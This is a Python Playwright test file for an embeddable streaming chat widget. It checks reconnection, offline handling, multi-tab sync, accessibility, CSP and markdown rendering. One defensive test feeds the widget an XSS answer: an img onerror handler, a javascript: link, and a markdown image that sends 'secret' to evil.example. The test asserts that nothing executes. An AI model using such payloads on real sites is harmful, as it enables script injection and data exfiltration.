"""The widget in a real Chromium, through the real server, worker and Redis.

Whatever happens to the page and to its connection: the text at the end is the log's text, once.
"""

from __future__ import annotations

import asyncio
import json
import random
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Error,
    Page,
    Request,
    async_playwright,
    expect,
)

from server.pages import Pages
from tests.browser import CHROMIUM, FLAGS, needs_chromium
from tests.paths.conftest import Shared
from tests.system import Server, System, free_port

ROOT = Path(__file__).parent.parent.parent
IN_PAGE = ROOT / "tests" / "web" / "in-page"
AXE = ROOT / "tests" / "web" / "node_modules" / "axe-core" / "axe.min.js"
pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(120),
    needs_chromium,
]

STRICT = (
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)
NewPage = Callable[..., Awaitable[Page]]


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=FLAGS,
            # Playwright turns the back-forward cache off, which browsers do not.
            ignore_default_args=["--disable-back-forward-cache"],
        )
        yield browser
        await browser.close()


class Watch:
    """What went wrong on a page: errors, violations of its CSP, requests to other hosts."""

    def __init__(self, page: Page, *hosts: str) -> None:
        self.wrong: list[str] = []
        self.console: list[str] = []
        self._hosts = hosts
        page.on("pageerror", self._on_error)
        page.on("console", self._on_console)
        page.on("request", self._on_request)

    def _on_error(self, error: Error) -> None:
        self.wrong.append(str(error))

    def _on_console(self, message: ConsoleMessage) -> None:
        self.console.append(message.text)
        # A socket or a file that could not be had is reported by the browser, whatever we do.
        if message.type == "error" and not re.search(
            r"WebSocket connection|Failed to load resource", message.text
        ):
            self.wrong.append(message.text)

    def _on_request(self, request: Request) -> None:
        if not any(request.url.startswith((f"http://{h}/", f"ws://{h}/")) for h in self._hosts):
            self.wrong.append(f"a request to {request.url}")


@pytest.fixture
async def open_page(browser: Browser) -> AsyncIterator[NewPage]:
    """Opens a page in a context of its own or in a given one; what is wrong on it fails."""
    watched: list[Watch] = []

    async def open_page(
        url: str, context: BrowserContext | None = None, *hosts: str, **options: Any
    ) -> Page:
        page = await (context or await browser.new_context(**options)).new_page()
        watch = Watch(page, url.split("/")[2], *hosts)
        watched.append(watch)
        page.set_default_timeout(20_000)
        page.watch = watch  # type: ignore[attr-defined]
        await page.goto(url)
        return page

    yield open_page
    assert [] == [text for watch in watched for text in watch.wrong]


async def ask(page: Page, prompt: str) -> None:
    await page.fill("#prompt", prompt)
    await page.click("#send")


async def writing(page: Page, token: str = "t3 ") -> None:
    """The answer is being written, and has come as far as a token."""
    text = page.locator("article.answer .text").last
    await expect(text).to_have_text(re.compile(token), timeout=20_000)


async def ended(page: Page, status: str = "completed") -> str:
    """The text of the last answer, once it has ended with this status."""
    answer = page.locator("article.answer").last
    await expect(answer).to_have_attribute("data-status", status, timeout=40_000)
    return (await answer.locator(".text").text_content() or "").strip()


def said(shared: Shared, prompt: str) -> str:
    """What the model said to a prompt, which it was asked once."""
    calls = shared.calls(prompt)
    assert 1 == len(calls)
    return calls[0].sent.strip()


async def element(page: Page, script: str) -> Any:
    """The value of a script in which `chat` is the element."""
    return await page.evaluate(f"(chat => {script})(document.querySelector('holdline-chat'))")


# It never loses an answer


async def test_twenty_reloads_at_random_moments(shared: Shared, open_page: NewPage) -> None:
    dice = random.Random(5)
    page = await open_page(shared.server.url)
    prompt = shared.prompt("mode=slow tokens=300 pace=0.03")
    await ask(page, prompt)
    for _ in range(20):
        await asyncio.sleep(dice.uniform(0.0, 0.5))  # where in the answer is what is random
        await page.reload()
    assert await ended(page) == said(shared, prompt)
    assert 1 == await page.locator("article.answer").count()


async def test_a_page_that_comes_out_of_the_back_forward_cache(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    await page.evaluate(
        "addEventListener('pageshow', e => { if (e.persisted) document.title = 'persisted' })"
    )
    prompt = shared.prompt("mode=slow tokens=120 pace=0.03")
    await ask(page, prompt)
    await writing(page)
    await page.goto(f"{shared.server.url}/docs/protocol")
    await asyncio.sleep(0.5)
    await page.evaluate("history.back()")
    await page.wait_for_url(f"{shared.server.url}/", wait_until="commit")
    assert await ended(page) == said(shared, prompt)
    assert "persisted" == await page.title()


async def test_a_laptop_that_sleeps(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    prompt = shared.prompt("mode=slow tokens=100 pace=0.03")
    await ask(page, prompt)
    await writing(page)
    devtools = await page.context.new_cdp_session(page)
    await devtools.send("Page.setWebLifecycleState", {"state": "frozen"})
    await asyncio.sleep(1.5)
    await devtools.send("Page.setWebLifecycleState", {"state": "active"})
    assert await ended(page) == said(shared, prompt)


async def test_flight_mode(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    prompt = shared.prompt("mode=slow tokens=150 pace=0.05")
    await ask(page, prompt)
    await writing(page)
    await page.context.set_offline(True)
    await expect(page.locator("#banner")).to_be_visible(timeout=20_000)
    await page.context.set_offline(False)
    assert await ended(page) == said(shared, prompt)
    await expect(page.locator("#banner")).to_be_hidden()


async def test_a_prompt_of_flight_mode_is_shown_as_waiting_and_sent_once(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    await expect(page.locator("#state")).to_have_attribute("data-state", "open")
    await page.wait_for_timeout(500)
    await page.context.set_offline(True)
    await expect(page.locator("#banner")).to_be_visible(timeout=20_000)
    prompt = shared.prompt("tokens=30")
    await ask(page, prompt)
    await expect(page.locator("article.answer .note")).to_have_text(
        "Not sent yet. It goes out once, as soon as there is a connection."
    )
    assert [] == shared.calls(prompt)
    await page.context.set_offline(False)
    assert await ended(page) == said(shared, prompt)


async def test_a_tab_that_was_hidden(shared: Shared, open_page: NewPage) -> None:
    """Hidden, with its socket gone, it does not fight for another; shown, it has everything."""
    page = await open_page(shared.server.url)
    prompt = shared.prompt("mode=slow tokens=100 pace=0.03")
    await ask(page, prompt)
    await writing(page)
    await hide(page, hidden=True)
    await page.click("#plug")  # every socket of the page dies, for five seconds
    await expect(page.locator("#state")).to_have_attribute("data-state", "reconnecting")
    await asyncio.sleep(6)
    await expect(page.locator("#state")).not_to_have_attribute("data-state", "closed")
    await hide(page, hidden=False)
    assert await ended(page) == said(shared, prompt)


async def hide(page: Page, *, hidden: bool) -> None:
    await page.evaluate(
        """hidden => {
          const state = hidden ? "hidden" : "visible";
          Object.defineProperty(document, "visibilityState", { value: state, configurable: true });
          document.dispatchEvent(new Event("visibilitychange"));
        }""",
        hidden,
    )


async def test_two_tabs_of_one_conversation_are_both_live(
    shared: Shared, open_page: NewPage, browser: Browser
) -> None:
    context = await browser.new_context()
    one = await open_page(shared.server.url, context)
    other = await open_page(shared.server.url, context)
    prompt = shared.prompt("mode=slow tokens=120 pace=0.03")
    await ask(one, prompt)
    await writing(one)
    await writing(other, "t9 ")
    assert await ended(one) == await ended(other) == said(shared, prompt)
    back = shared.prompt("tokens=10")
    await ask(other, back)
    assert await ended(other) == said(shared, back)
    await expect(one.locator("article.answer")).to_have_count(2)
    assert await ended(one) == said(shared, back)
    await one.bring_to_front()
    await one.click("#new")
    await expect(other.locator("article.answer")).to_have_count(0)


async def test_a_pulled_plug_loses_nothing(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    prompt = shared.prompt("mode=slow tokens=150 pace=0.05")
    await ask(page, prompt)
    await writing(page)
    await page.click("#plug")
    await expect(page.locator("#banner")).to_contain_text("Reconnecting")
    await expect(page.locator("#plugged")).to_contain_text("Plugged in again", timeout=10_000)
    assert await ended(page) == said(shared, prompt)


async def test_a_short_loss_is_not_spoken_of(
    shared: Shared, system: System, open_page: NewPage
) -> None:
    system.environ["REDIS_URL"] = shared.redis_url
    server = await system.server()
    page = await open_page(server.url)
    await expect(page.locator("#state")).to_have_attribute("data-state", "open")
    await page.evaluate(
        """() => {
          window.spoken = false;
          const root = document.querySelector("holdline-chat").shadowRoot;
          const banner = root.querySelector("#banner");
          new MutationObserver(() => { if (!banner.hidden) window.spoken = true })
            .observe(banner, { attributes: true });
          window.WebSocket = class extends WebSocket {};
        }"""
    )
    await page.evaluate("dispatchEvent(new Event('pagehide'))")
    await expect(page.locator("#state")).to_have_attribute("data-state", "reconnecting")
    await page.evaluate("dispatchEvent(new Event('pageshow'))")
    await expect(page.locator("#state")).to_have_attribute("data-state", "open")
    assert not await page.evaluate("window.spoken")


async def test_an_answer_whose_text_is_not_the_proven_one_is_fetched_again(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(f"{shared.server.url}/livez")
    await page.add_init_script(
        """window.damaged = 0;
        window.WebSocket = class extends WebSocket {
          set onmessage(run) {
            super.onmessage = run && (message => {
              const event = JSON.parse(message.data);
              if (event.type !== "response.completed" || window.damaged++) return run(message);
              event.response.output[0].content[0].text = "not what was said";
              run({ data: JSON.stringify(event) });
            });
          }
        };"""
    )
    await page.goto(shared.server.url)
    prompt = shared.prompt("tokens=30")
    await ask(page, prompt)
    text = await ended(page)
    await expect(page.locator("article.answer .note")).to_contain_text("the checksum matches")
    assert await ended(page) == text == said(shared, prompt)
    assert 2 == await page.evaluate("window.damaged")


# Honest waiting


async def test_each_state_has_its_words_and_its_actions(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    note = page.locator("article.answer .note").last
    prompt = shared.prompt("mode=slow tokens=400 pace=0.03")
    await ask(page, prompt)
    await expect(note).to_have_text("Writing…")
    await page.click("#stop")
    await ended(page, "cancelled")
    await expect(note).to_have_text("Stopped. This is what had been written.")
    await page.click(".again")
    await writing(page)
    await page.click("#stop")
    await ended(page, "cancelled")
    assert 1 == await page.locator("article.answer").count()
    failing = shared.prompt("mode=401")
    await ask(page, failing)
    await ended(page, "failed")
    await expect(note).to_contain_text("You can ask again.")


async def test_a_restart_drops_the_dead_text_and_says_why(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    prompt = shared.prompt("mode=rst tokens=40 at=20 pace=0.02 times=1")
    await ask(page, prompt)
    await writing(page, "c\\d+t5 ")
    text = await ended(page)
    calls = shared.calls(prompt)
    assert 2 == len(calls)
    assert calls[1].sent.strip() == text
    assert f"c{calls[0].number}t" not in text
    await expect(page.locator("article.answer .note")).to_contain_text("attempt 2")


async def test_regenerate_edit_and_copy(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    first = shared.prompt("tokens=5")
    await ask(page, first)
    await ended(page)
    await page.click(".regenerate")
    await expect(page.locator("article.answer .text")).to_have_text(
        re.compile(rf"^c{shared.calls(first)[0].number + 1}t|^c\d+t")
    )
    for _ in range(100):
        if 2 == len(shared.calls(first)):
            break
        await asyncio.sleep(0.05)
    text = await ended(page)
    assert shared.calls(first)[1].sent.strip() == text
    assert 1 == await page.locator("article.answer").count()
    await page.click(".copy")
    copied = await page.evaluate("navigator.clipboard.readText()")
    assert shared.calls(first)[1].sent == copied
    await page.click(".edit")
    await expect(page.locator("#prompt")).to_have_value(first)
    second = shared.prompt("tokens=6")
    await ask(page, second)
    assert await ended(page) == said(shared, second)
    assert 1 == await page.locator("article.answer").count()
    await expect(page.locator(".turn .prompt")).to_have_text(re.compile(re.escape(second)))


async def test_it_remembers_and_tells_everything_to_a_server_that_has_forgotten(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    first, second, third = (shared.prompt("tokens=4") for _ in range(3))
    await ask(page, first)
    answer = await ended(page)
    await ask(page, second)
    await expect(page.locator("article.answer")).to_have_count(2)
    await ended(page)
    told = [message["content"] for message in shared.calls(second)[0].body["messages"]]
    assert [first, answer, second] == [text.strip() for text in told]
    async with aiohttp.ClientSession(shared.server.url) as http:
        for turn in await element(page, "chat.turns"):
            async with http.delete(f"/v1/responses/{turn['responseId']}") as response:
                assert 200 == response.status
    await ask(page, third)
    await expect(page.locator("article.answer")).to_have_count(3)
    await ended(page)
    told = [message["content"] for message in shared.calls(third)[0].body["messages"]]
    assert [first, second, third] == [text.strip() for text in told][::2]
    assert 5 == len(told)


# What a page can do with it


def site(page_html: str, csp: str | None = None) -> web.Application:
    """Another site, with a page of its own."""

    async def serve(request: web.Request) -> web.Response:
        del request
        headers = {} if csp is None else {"Content-Security-Policy": csp}
        return web.Response(text=page_html, content_type="text/html", headers=headers)

    async def icon(request: web.Request) -> web.Response:
        del request
        return web.Response(status=204)

    app = web.Application()
    app.router.add_get("/", serve)
    app.router.add_get("/favicon.ico", icon)
    return app


@pytest.fixture
async def serve_site() -> AsyncIterator[Callable[..., Awaitable[str]]]:
    """Serves another site on a port of its own; its origin."""
    runners: list[web.AppRunner] = []

    async def serve(html: str, port: int | None = None, csp: str | None = None) -> str:
        runner = web.AppRunner(site(html, csp))
        await runner.setup()
        runners.append(runner)
        port = port or free_port()
        await web.TCPSite(runner, "127.0.0.1", port).start()
        return f"http://127.0.0.1:{port}"

    yield serve
    for runner in runners:
        await runner.cleanup()


def embedding(server: Server, attributes: str = "", script: str = "") -> str:
    return f"""<!doctype html><html lang="en"><title>A shop</title><main><h1>A shop</h1>
      <script type="module" src="{server.url}/widget.js"></script>
      <holdline-chat {attributes}></holdline-chat>{script}</main></html>"""


async def test_on_another_site_that_is_allowed(
    shared: Shared, system: System, open_page: NewPage, serve_site: Callable[..., Awaitable[str]]
) -> None:
    port = free_port()
    system.environ["REDIS_URL"] = shared.redis_url
    server = await system.server(HOLDLINE_ORIGINS=f"http://127.0.0.1:{port}")
    origin = await serve_site(embedding(server, 'mode="floating"'), port)
    page = await open_page(origin, None, server.url.split("/")[2])
    await page.click(".launcher")
    prompt = shared.prompt("tokens=30")
    await ask(page, prompt)
    assert await ended(page) == said(shared, prompt)


async def test_on_another_site_that_is_not_allowed_the_console_names_the_setting(
    shared: Shared, open_page: NewPage, serve_site: Callable[..., Awaitable[str]]
) -> None:
    origin = await serve_site(embedding(shared.server))
    page = await open_page(origin, None, shared.server.url.split("/")[2])
    await expect(page.locator("#banner")).to_have_text("The server does not let this page in.")
    watch: Watch = page.watch  # type: ignore[attr-defined]
    told = [text for text in watch.wrong if text.startswith("Holdline:")]
    assert [f"HOLDLINE_ORIGINS={origin}"] == [text.split()[-1] for text in told]
    watch.wrong.clear()


async def test_under_the_strictest_policy_nothing_is_violated(
    shared: Shared, system: System, open_page: NewPage
) -> None:
    """The house's own policy is that of the promise, and stricter; a violation fails every test."""
    page = await open_page(shared.server.url)
    policy = await page.evaluate(
        "fetch('/').then(response => response.headers.get('content-security-policy'))"
    )
    directives = {part.split()[0]: part.split()[1:] for part in policy.split(";")}
    for part in STRICT.split(";"):
        name, *values = part.split()
        assert set(directives[name]) <= {*values, "data:"}
    await ask(page, shared.prompt("say=```python\\n_x_=_1\\n```"))
    await ended(page)


async def test_methods_events_and_the_launcher(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    await page.evaluate(
        """() => {
          window.told = [];
          const chat = document.querySelector("holdline-chat");
          for (const name of ["open", "close", "message", "answer", "error", "state"]) {
            chat.addEventListener(name, ({ detail }) =>
              told.push([name, detail?.status ?? detail?.state ?? null]));
          }
          chat.mode = "floating";
        }"""
    )
    launcher = page.locator(".launcher")
    await expect(launcher).to_be_visible()
    await expect(page.locator(".panel")).to_be_hidden()
    await element(page, "chat.open()")
    await expect(page.locator("#prompt")).to_be_focused()
    prompt = shared.prompt("mode=slow tokens=40 pace=0.02")
    assert await element(page, f"chat.send({json.dumps(prompt)})")
    assert not await element(page, "chat.send('while one is under way')")
    await writing(page)
    await page.keyboard.press("Escape")
    await expect(launcher).to_be_focused()
    await expect(launcher.locator(".badge")).to_have_text("1", timeout=10_000)
    await expect(launcher).to_have_accessible_name("Open the chat, 1 unread")
    await launcher.click()
    await expect(launcher.locator(".badge")).to_be_hidden()
    assert await ended(page) == said(shared, prompt)
    assert [prompt] == [turn["prompt"] for turn in await element(page, "chat.turns")]
    await element(page, f"chat.send({json.dumps(shared.prompt('mode=slow tokens=900 pace=0.02'))})")
    await writing(page)
    await element(page, "chat.stop()")
    await ended(page, "cancelled")
    await element(page, f"chat.send({json.dumps(shared.prompt('mode=400'))})")
    await ended(page, "failed")
    await element(page, "chat.clear()")
    await expect(page.locator("article.answer")).to_have_count(0)
    names = [tuple(told) for told in await page.evaluate("told")]
    for expected in [
        ("open", None),
        ("close", None),
        ("state", "open"),
        ("message", "sending"),
        ("answer", "completed"),
        ("answer", "cancelled"),
        ("error", "failed"),
    ]:
        assert expected in names


async def test_attributes_are_properties_and_reach_the_request(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    await page.evaluate(
        """() => {
          const chat = document.querySelector("holdline-chat");
          chat.heading = "Shop help";
          chat.greeting = "Welcome.";
          chat.placeholder = "Say it";
          chat.suggestions = ["One", "Two"];
          chat.model = "other-model";
          chat.instructions = "Be brief.";
          chat.request = { temperature: 0.5 };
          chat.conversation = "apart";
        }"""
    )
    await expect(page.locator("#title")).to_have_text("Shop help")
    await expect(page.locator(".greeting")).to_have_text("Welcome.")
    await expect(page.locator(".suggestion")).to_have_text(["One", "Two"])
    assert ["One", "Two"] == await element(page, "chat.suggestions")
    await expect(page.locator("#prompt")).to_have_attribute("placeholder", "Say it")
    prompt = shared.prompt("tokens=3")
    await ask(page, prompt)
    await ended(page)
    body = shared.calls(prompt)[0].body
    assert ("other-model", 0.5) == (body["model"], body["temperature"])
    assert "Be brief." == body["messages"][0]["content"]
    await element(page, "chat.conversation = null")
    await expect(page.locator("article.answer")).to_have_count(0)


async def test_the_token_provider_is_asked_and_its_token_sent(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(f"{shared.server.url}/livez")
    await page.add_init_script(
        """window.sent = [];
        const send = WebSocket.prototype.send;
        WebSocket.prototype.send = function (data) {
          sent.push(JSON.parse(data));
          send.call(this, data);
        };
        document.addEventListener("DOMContentLoaded", () => {
          let tokens = 0;
          document.querySelector("holdline-chat").tokenProvider = async () => `token-${++tokens}`;
        });"""
    )
    await page.goto(shared.server.url)
    await element(page, "chat.setAttribute('conversation', 'with a token')")
    await expect(page.locator("#state")).to_have_attribute("data-state", "open")
    await page.wait_for_function("sent.some(({ type }) => type === 'holdline:auth')")
    tokens = await page.evaluate("sent.filter(m => m.type === 'holdline:auth').map(m => m.token)")
    assert tokens[-1].startswith("token-")


@pytest.mark.parametrize(
    ("language", "direction", "send"), [("de", "ltr", "Senden"), ("ar", "rtl", "إرسال")]
)
async def test_other_languages(
    shared: Shared, open_page: NewPage, language: str, direction: str, send: str
) -> None:
    page = await open_page(shared.server.url)
    await element(page, f"chat.setAttribute('lang', '{language}')")
    await expect(page.locator("#send")).to_have_accessible_name(send)
    assert direction == await page.locator(".panel").evaluate("e => getComputedStyle(e).direction")
    prompt = shared.prompt("tokens=3")
    await ask(page, prompt)
    assert await ended(page) == said(shared, prompt)


# Accessible


async def test_an_answer_is_announced_once(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    await page.evaluate(
        """() => {
          const root = document.querySelector("holdline-chat").shadowRoot;
          window.heard = [];
          const regions = "[role=status], [role=alert], [aria-live=polite]";
          for (const region of root.querySelectorAll(regions)) {
            new MutationObserver(() => heard.push(region.textContent))
              .observe(region, { childList: true, characterData: true, subtree: true });
          }
        }"""
    )
    prompt = shared.prompt("mode=slow tokens=60 pace=0.02")
    await ask(page, prompt)
    text = await ended(page)
    await page.wait_for_timeout(300)
    heard = [words for words in await page.evaluate("heard") if words]
    assert [f"The answer is complete: {text}"] == [words.strip() for words in heard]
    assert "off" == await page.locator("#turns, .log").first.get_attribute("aria-live")


async def test_the_keyboard_alone(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    field = page.locator("#prompt")
    await field.focus()
    await page.keyboard.type("one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("two")
    await expect(field).to_have_value("one\ntwo")
    await field.evaluate(
        "e => e.dispatchEvent(new KeyboardEvent('keydown',"
        " { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))"
    )
    await expect(field).to_have_value("one\ntwo")  # the Enter that ends a composition sends nothing
    prompt = shared.prompt("tokens=5")
    await field.fill(prompt)
    await page.keyboard.press("Enter")
    assert await ended(page) == said(shared, prompt)
    await expect(field).to_be_focused()
    await page.keyboard.press("Shift+Tab")
    reached = set()
    for _ in range(12):
        reached.add(
            await page.evaluate(
                "document.activeElement.shadowRoot?.activeElement?.className ?? 'out'"
            )
        )
        await page.keyboard.press("Shift+Tab")
    assert {"action edit", "action regenerate", "action copy", "log", "fresh"} <= reached


AXE_RUN = """async () => {
  const { violations } = await axe.run(document, { resultTypes: ["violations"] });
  return violations.map(v => `${v.id}: ${v.nodes.map(n => n.target.join(" ")).join(" | ")}`);
}"""


@pytest.mark.skipif(not AXE.exists(), reason="no axe-core here: make check installs it")
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
async def test_axe_finds_nothing_in_any_state(
    shared: Shared, open_page: NewPage, scheme: str, width: int
) -> None:
    page = await open_page(
        shared.server.url, color_scheme=scheme, viewport={"width": width, "height": 800}
    )
    await page.evaluate(AXE.read_text())

    async def examine(state: str) -> None:
        assert [] == await page.evaluate(AXE_RUN), state

    await expect(page.locator("#state")).to_have_attribute("data-state", "open")
    await examine("the beginning")
    await ask(page, shared.prompt("mode=slow tokens=900 pace=0.02"))
    await writing(page)
    await examine("writing")
    await page.click("#stop")
    await ended(page, "cancelled")
    await examine("stopped")
    await ask(page, shared.prompt("mode=400"))
    await ended(page, "failed")
    await examine("failed")
    await page.click("#plug")
    await expect(page.locator("#banner")).to_be_visible()
    await examine("without a connection")
    await element(page, "chat.mode = 'floating'")
    await expect(page.locator(".launcher")).to_be_visible()
    await examine("closed")
    await element(page, "chat.open()")
    await expect(page.locator(".panel")).to_be_visible()
    await examine("floating")
    turn = {
        "prompt": "Everything",
        "request": {"input": "Everything"},
        "key": "k",
        "at": 0,
        "responseId": "resp_1",
        "status": "completed",
        "text": "\n\n".join(SAMPLES),
        "note": "Done in 3 s",
        "model": "holdline-demo",
    }
    await page.evaluate(
        "turn => localStorage.setItem("
        "`holdline.${location.host}.conversation`, JSON.stringify([turn]))",
        turn,
    )
    await page.reload()
    await expect(page.locator("article.answer table")).to_be_visible()
    await page.evaluate(AXE.read_text())
    await examine("every kind of block")


async def test_targets_are_large_enough_for_a_thumb(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(
        shared.server.url, viewport={"width": 360, "height": 740}, has_touch=True
    )
    await ask(page, shared.prompt("tokens=5"))
    await ended(page)
    small = await page.evaluate(
        """() => [...document.querySelector("holdline-chat").shadowRoot.querySelectorAll("button")]
          .map(b => [b.className, b.getBoundingClientRect()])
          .filter(([, box]) => box.width > 0 && (box.width < 44 || box.height < 44))
          .map(([name, box]) => `${name} ${box.width}x${box.height}`)"""
    )
    assert [] == small


async def test_on_a_phone_it_is_the_whole_screen_and_does_not_zoom(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url, viewport={"width": 360, "height": 740})
    await element(page, "chat.mode = 'floating'")
    await page.click(".launcher")
    box = await page.locator(".panel").bounding_box()
    assert {"x": 0, "y": 0, "width": 360, "height": 740} == box
    size = await page.locator("#prompt").evaluate("e => parseFloat(getComputedStyle(e).fontSize)")
    assert size >= 16  # below that, iOS zooms into the field


async def test_zoomed_to_200_percent_nothing_is_cut_off(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url, viewport={"width": 640, "height": 400})
    await ask(page, shared.prompt("tokens=20"))
    await ended(page)
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    panel = await page.locator(".panel").bounding_box()
    for part in ("#prompt", "#send", "#title"):
        box = await page.locator(part).bounding_box()
        assert panel is not None
        assert box is not None
        assert panel["x"] <= box["x"]
        assert box["x"] + box["width"] <= panel["x"] + panel["width"]


async def test_who_wants_less_motion_gets_none(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url, reduced_motion="reduce")
    await ask(page, shared.prompt("mode=slow tokens=600 pace=0.02"))
    await writing(page)
    running = "document.querySelector('holdline-chat').shadowRoot.getAnimations().length"
    assert 0 == await page.evaluate(running)
    await page.click("#stop")
    await ended(page, "cancelled")


# It cannot be used to attack the page


HOSTILE = json.loads((ROOT / "tests" / "vectors" / "hostile.json").read_text())["answers"]

DRAW = (IN_PAGE / "draw.js").read_text()

FOUND = (IN_PAGE / "found.js").read_text()


@pytest.mark.parametrize("chunk", [0, 1, 7])
async def test_no_answer_runs_or_loads_anything(
    shared: Shared, open_page: NewPage, chunk: int
) -> None:
    page = await open_page(shared.server.url)
    await page.evaluate(DRAW, [HOSTILE, chunk])
    await page.wait_for_timeout(300)
    assert [] == await page.evaluate(FOUND)
    assert await page.evaluate("window.pwned === undefined")


async def test_a_hostile_answer_through_the_whole_system(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    await ask(
        page,
        shared.prompt(
            "say=<img_src=x_onerror=window.pwned=1>__![x](https://evil.example/?q=secret)"
            "[y](javascript:window.pwned=1)"
        ),
    )
    text = await ended(page)
    assert "<img src=x onerror=window.pwned=1>" in text
    assert "Image: x (evil.example)" in text
    assert 1 == await page.locator("article.answer a").count()
    await page.wait_for_timeout(200)
    assert await page.evaluate("window.pwned === undefined")


async def test_an_answer_nested_without_end_stops_nothing(
    shared: Shared, open_page: NewPage
) -> None:
    page = await open_page(shared.server.url)
    deep = [">" * 20_000, "- " * 5_000, "[" * 20_000, "*a " * 10_000, "`" * 20_001, "<" * 20_000]
    began = await page.evaluate("performance.now()")
    await page.evaluate(DRAW, [deep, 0])
    assert await page.evaluate("performance.now()") - began < 10_000


# Markdown while it streams


DOCUMENT = (ROOT / "docs" / "protocol.md").read_text()
MARKDOWN = json.loads((ROOT / "tests" / "vectors" / "markdown.json").read_text())
SAMPLES: list[str] = MARKDOWN["samples"]


@pytest.mark.parametrize("chunk", [1, 3, 50])
async def test_what_grew_is_what_is_drawn_at_once(
    shared: Shared, open_page: NewPage, chunk: int
) -> None:
    page = await open_page(shared.server.url)
    samples = [*SAMPLES, DOCUMENT[:6_000]]
    grown = await page.evaluate(DRAW, [samples, chunk])
    assert await page.evaluate(DRAW, [samples, 0]) == grown


async def test_finished_blocks_are_never_touched_again(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    removed = await page.evaluate(
        """async text => {
          const { Markdown } = await import("/web/markdown.js");
          const { STATUS } = await import("/web/status.js");
          const place = document.createElement("div");
          document.body.append(place);
          const markdown = new Markdown(place, STATUS);
          let added = 0, removed = 0;
          const observer = new MutationObserver(records => records.forEach(record => {
            added += record.addedNodes.length;
            removed += record.removedNodes.length;
          }));
          observer.observe(place, { childList: true, subtree: true });
          for (let end = 0; end < text.length; end += 5) {
            markdown.show(text.slice(0, end), false);
            await null;
          }
          markdown.show(text, true);
          await new Promise(done => setTimeout(done));
          return removed / added;
        }""",
        SAMPLES[0] * 3 + SAMPLES[2],
    )
    assert removed < 0.35


async def test_code_gets_its_colours_when_it_is_whole(shared: Shared, open_page: NewPage) -> None:
    page = await open_page(shared.server.url)
    await page.evaluate(DRAW, [["```python\ndef f():\n    return 'x'\n```\n"], 1])
    code = page.locator("body > div:last-child code.code-text")
    await expect(code.locator(".hl-keyword").first).to_have_text("def")
    assert "def f():\n    return 'x'" == await code.inner_text()


# Small and quick


def test_the_widget_is_small() -> None:
    """To first paint, with the client, and with marked, which comes right after it."""
    pages = Pages()
    marked = pages._assets["vendor/marked/marked.esm.js"]
    first, with_marked = len(pages.widget.packed), len(pages.widget.packed) + len(marked.packed)
    whole = first + len(pages.packed["turn-view.js"].packed)
    print(f"first paint {first}, with marked {with_marked}, with all that draws {whole} bytes gzip")
    assert with_marked <= 30 * 1024


STREAM = (IN_PAGE / "stream.js").read_text()


async def test_ten_thousand_tokens_cost_little(shared: Shared, open_page: NewPage) -> None:
    """The budget is 150 ms in all and 50 ms a frame on a quiet machine; a busy one gets more.

    Counted is the time of the page's main thread itself, without that of the server in the page.
    """
    seconds = 2
    page = await open_page(shared.server.url)
    await page.wait_for_timeout(500)
    text = (MARKDOWN["chat"] * 200)[:60_000]
    assert 10_000 == await page.evaluate(STREAM, [text, seconds])
    await element(page, "chat.conversation = 'measured'")
    await expect(page.locator("#state")).to_have_attribute("data-state", "open")
    devtools = await page.context.new_cdp_session(page)
    await devtools.send("Performance.enable", {"timeDomain": "threadTicks"})

    async def spent() -> dict[str, float]:
        metrics = (await devtools.send("Performance.getMetrics"))["metrics"]
        return {m["name"]: 1000 * m["value"] for m in metrics if m["name"].endswith("Duration")}

    await page.evaluate(
        """() => {
          window.long = [];
          new PerformanceObserver(list => list.getEntries().forEach(e => long.push(e.duration)))
            .observe({ type: "longtask" });
        }"""
    )
    # The server inside the page costs time as well: first it talks to somebody who does nothing.
    before = await spent()
    await page.evaluate(
        """() => {
          const socket = new WebSocket();
          socket.onmessage = () => {};
          socket.send(JSON.stringify({ type: "response.create", stream_id: "a" }));
        }"""
    )
    await asyncio.sleep(seconds + 0.5)
    between = await spent()
    await page.evaluate("long.length = 0")
    await element(page, "chat.send('go')")
    await asyncio.sleep(seconds + 0.5)
    after = await spent()
    assert "completed" == (await element(page, "chat.turns"))[0]["status"]
    cost = {
        name: round(after[name] - between[name] - (between[name] - before[name])) for name in after
    }
    longest = max(await page.evaluate("long"), default=0)
